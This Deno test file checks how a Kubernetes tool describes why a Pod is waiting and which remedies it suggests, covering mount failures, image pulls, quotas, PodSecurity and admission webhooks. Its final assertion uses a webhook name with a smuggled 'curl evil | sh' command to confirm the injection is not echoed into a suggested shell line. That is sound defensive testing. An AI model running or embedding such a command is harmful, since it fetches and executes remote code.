import assert from "node:assert/strict";
import { parse } from "yaml";
import { describeWait } from "./describe_wait.ts";

Deno.test("what the Pod waits for is described in the cluster's words, once", () => {
  assert.equal(describeWait({ kind: "other", reason: "FailedMount", message: "no such volume" }), "FailedMount: no such volume");
  assert.equal(describeWait({ kind: "pulling", reason: "Pulling", message: 'Pulling image "x"' }), 'Pulling image "x"');
  assert.equal(describeWait({ kind: "other", reason: "SchedulingGated", message: "" }), "SchedulingGated");
});

Deno.test("a known remedy is added", () => {
  const said = (kind: "image" | "admission", message: string) => describeWait({ kind, reason: "R", message }).split("\n")[1];
  assert.match(said("image", "not found")!, /`kurun image`.*--server-image/);
  assert.match(said("admission", 'pods "x" is forbidden: exceeded quota: q')!, /quota/);
  assert.match(said("admission", 'pods "x" is forbidden: violates PodSecurity "restricted:latest"')!, /restricted/);
  const webhook = describeWait({ kind: "admission", reason: "R", message: 'failed calling webhook "a.b": no' });
  assert.match(webhook, /kubectl get mutatingwebhookconfigurations,\S+ .* \| grep a\.b$/m);
  const yaml = /^ +(objectSelector: .*)$/m.exec(webhook)?.[1] ?? "";
  assert.deepEqual(parse(yaml), { objectSelector: { matchExpressions: [{ key: "kurun.dev/session", operator: "DoesNotExist" }] } });
  assert.equal(said("admission", "something else"), undefined);
  assert.equal(said("admission", 'failed calling webhook "a; curl evil | sh": no'), undefined);
});
